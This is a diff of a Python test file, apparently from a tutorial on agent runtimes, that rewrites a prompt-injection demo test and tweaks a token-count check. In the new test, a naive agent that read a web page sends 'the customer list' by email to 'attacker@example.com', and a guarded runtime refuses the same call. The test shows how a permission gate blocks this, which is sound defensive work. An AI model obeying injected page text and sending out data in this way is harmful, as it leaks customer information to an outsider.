@@ -70,8 +70,15 @@ def test_conversion_agent_with_a_correct_rate_keeps_its_plan():
     assert exchange_rate("USD", "EUR") == "1 USD = 1.08 EUR"
 
 
-def test_injection_row_links_to_notebook_04():
-    assert "04_guarded_agents.ipynb" in str(demo_prompt_injection())
+def test_injection_row_obeys_the_page_and_the_door_decides():
+    demo = demo_prompt_injection()
+    naive, guarded = demo.runs.values()
+    sent = [s for s in naive.steps if s.call and s.call.name == "send_email"]
+    assert sent[0].call.arguments == {"to": "attacker@example.com", "body": "the customer list"}
+    assert sent[0].executed and sent[0].status == "ok"  # the naive runtime sent it
+    refused = [s for s in guarded.steps if s.call and s.call.name == "send_email"]
+    assert not refused[0].executed and refused[0].status == "not_allowed"
+    assert "04_guarded_agents.ipynb" in str(demo)
 
 
 def test_compact_state_costs_fewer_tokens():
@@ -79,7 +86,7 @@ def test_compact_state_costs_fewer_tokens():
     full, compact = demo.runs["full"], demo.runs["compact"]
     assert compact.input_tokens < full.input_tokens
     assert [s.input_tokens for s in full.steps] == sorted(s.input_tokens for s in full.steps)
-    assert "fewer" in demo.outcome[-1]
+    assert "fewer" in demo.outcome[-2] and demo.outcome[-1] == "unit: word-and-punctuation count, not a tokenizer"
 
 
 def test_dry_run_writes_nothing():
